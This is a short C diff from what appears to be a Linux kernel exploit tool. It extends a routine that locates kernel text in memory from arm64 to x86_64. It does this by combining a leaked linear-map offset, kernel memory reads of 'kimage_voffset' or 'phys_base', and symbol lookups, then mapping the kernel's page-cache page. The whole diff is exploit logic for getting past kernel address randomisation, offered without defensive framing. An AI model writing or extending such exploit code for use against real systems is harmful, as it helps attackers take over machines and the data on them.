@@ -16,6 +16,7 @@
 
 #include <sys/syscall.h>
 
+#define X86_IMAGE	0xffffffff80000000	/* where physical address phys_base is mapped */
 #define NR_RANGES	256
 #define FILE_PARTS	32	/* each as large as what a table maps */
 
@@ -176,11 +177,13 @@ static int page_cache_image(void)
 	char *letter;
 	int fd;
 
-	if (!on_arch("arm64"))
+	text = lookup("linux_proc_banner") + leak.linear_offset;
+	if (on_arch("arm64"))
+		text -= kernel_read(lookup("kimage_voffset"));
+	else if (on_arch("x86_64"))
+		text += kernel_read(lookup("phys_base")) - X86_IMAGE;
+	else
 		return not_possible("the kernel is not in the memory that it manages");
-
-	text = lookup("linux_proc_banner") - kernel_read(lookup("kimage_voffset")) +
-	       leak.linear_offset;
 	page = text & ~(u64)(PAGE_SIZE - 1);
 	map_cached(&c, struct_page(page), NULL);
 	if (is_mapped(&c, page)) {
